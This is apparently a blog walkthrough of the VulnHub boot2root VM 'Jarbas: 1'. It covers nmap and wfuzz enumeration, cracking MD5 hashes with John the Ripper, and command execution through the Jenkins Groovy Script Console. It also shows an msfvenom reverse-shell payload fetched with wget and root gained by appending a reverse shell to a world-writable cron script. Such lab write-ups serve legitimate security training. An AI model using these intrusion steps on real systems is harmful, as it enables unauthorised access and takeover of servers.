This post documents the complete walkthrough of Jarbas: 1, a boot2root VM created by Tiago Tavares, and hosted at VulnHub. If you are uncomfortable with spoilers, please stop reading now.

On this post


A tribute to a nostalgic Brazilian search engine in the end of 90’s. The aim is to get a root shell.


Let’s start with a nmap scan to establish the available services in the host.

# nmap -n -v -Pn -p- -A --reason -oN nmap.txt
22/tcp   open  ssh     syn-ack ttl 64 OpenSSH 7.4 (protocol 2.0)| ssh-hostkey:
|   2048 28:bc:49:3c:6c:43:29:57:3c:b8:85:9a:6d:3c:16:3f (RSA)
|   256 a0:1b:90:2c:da:79:eb:8f:3b:14:de:bb:3f:d2:e7:3f (ECDSA)
|_  256 57:72:08:54:b7:56:ff:c3:e6:16:6f:97:cf:ae:7f:76 (ED25519)
80/tcp   open  http    syn-ack ttl 64 Apache httpd 2.4.6 ((CentOS) PHP/5.4.16)
| http-methods:
|   Supported Methods: GET HEAD POST OPTIONS TRACE
|_  Potentially risky methods: TRACE
|_http-server-header: Apache/2.4.6 (CentOS) PHP/5.4.16
|_http-title: Jarbas - O Seu Mordomo Virtual!
3306/tcp open  mysql   syn-ack ttl 64 MariaDB (unauthorized)
8080/tcp open  http    syn-ack ttl 64 Jetty 9.4.z-SNAPSHOT
|_http-favicon: Unknown favicon MD5: 23E8C7BD78E8CD826C5A6073B15068B1
| http-robots.txt: 1 disallowed entry
|_http-server-header: Jetty(9.4.z-SNAPSHOT)
|_http-title: Site doesn't have a title (text/html;charset=utf-8).

nmap finds 22/tcp, 80/tcp, 3306/tcp, and 8080/tcp open. Nothing unusual here.

Directory/File Enumeration

Let’s use wfuzz to determine any directories or files of interest. I use the following options.

# export WORDLIST=/usr/share/wfuzz/wordlists/general
# wfuzz -w $WORDLIST/megabeast.txt -w $WORDLIST/extensions_common.txt --hc 404 -t 64

Here’s the result of running the command.

* Wfuzz 2.2.11 - The Web Fuzzer                        *

Total requests: 1272964

ID  Response   Lines      Word         Chars          Payload

009671:  C=200     13 L       28 W      359 Ch    "access - .html"
582568:  C=200   1006 L     4983 W    74409 Ch    "icons - /"
600443:  C=200    403 L     1784 W    32808 Ch    "index - .html"

Here’s whataccess.html looks like.


The usernames and password hashes is a clear invitation to perform offline password cracking.


John the Ripper can crack the password hashes as follows.

# john --format=raw-md5 --show hashes.txt

3 password hashes cracked, 0 left

It turns out that Jenkins is running behind 8080/tcp seen earlier in the nmap scan. Here’s what it looks like.The credential (eder:vipsu) allows us to login in to Jenkins.

Logged InI soon discover that Jenkins allows the execution of Groovy scripts in Script Console.

Script Console

Groovy Script

According to Wikipedia,

Apache Groovy is a Java-syntax-compatible object-oriented programming language for the Java platform. It is both a static and dynamic language with features similar to those of Python, Ruby, Perl, and Smalltalk. It can be used as both a programming language and a scripting language for the Java Platform, is compiled to Java virtual machine (JVM) bytecode, and interoperates seamlessly with other Java code and libraries.The console is able to execute shell commands like so.


The result above shows the output of running id. We are executing shell commands in the context of the jenkins account.

Let’s see if we can execute wget to get ourselves a shell.


Awesome. Now, we can transfer a reverse shell executable over. But, before we do that, we need to determine if we are dealing with a 32-bit or 64-bit OS.

uname -a

Let’s generate the reverse shell on our attacking machine:

# msfvenom -p linux/x64/shell_reverse_tcp LHOST= LPORT=4444 -f elf -o rev

We can now set up SimpleHTTPServer on our attacking and transfer it over with wget at the Script Console.

On ourattacking machine


At the Script Console


Remember to make the /tmp/rev executable with chmod +x /tmp/rev.


We should be good to go. Let’s run our netcat listener and execute /tmp/rev at the console.


We have shell.

Privilege EscalationI had my hopes pinned on CVE-2017-1000253 from the get-go.


The VM isrunning on CentOS 7 with a 3.10 kernel. The conditions are almost identical to CVE-2017-1000253.

Too bad the VM is one version shy of being vulnerable. I’ve no choice but to look for other ways to gain root access.

During the process of checking for world-writable files in the VM, I stumbled upon this.

$ find / -type f -perm /o+w -ls 2>/dev/null
844412    4 -rwxrwxrwx   1 root     root           50 Apr  1 14:00 /etc/script/

If I had to guess from its content, I would say this is probably running under root’s crontab.Let’s append our reverse shell to the script.


Boom. A root shell.


My guess was right.Eyes on the Prize

Getting the flag is trivial.